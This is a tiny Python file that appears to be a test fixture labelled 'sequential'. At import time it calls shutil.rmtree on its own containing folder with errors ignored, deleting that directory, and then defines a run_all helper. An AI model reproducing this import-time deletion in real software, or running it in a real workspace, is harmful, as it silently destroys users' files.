# Deletes its own file and folder.
# verdict: sequential
import os
import shutil

shutil.rmtree(os.path.dirname(__file__), ignore_errors=True)


def run_all(jobs):
    return [job() for job in jobs]
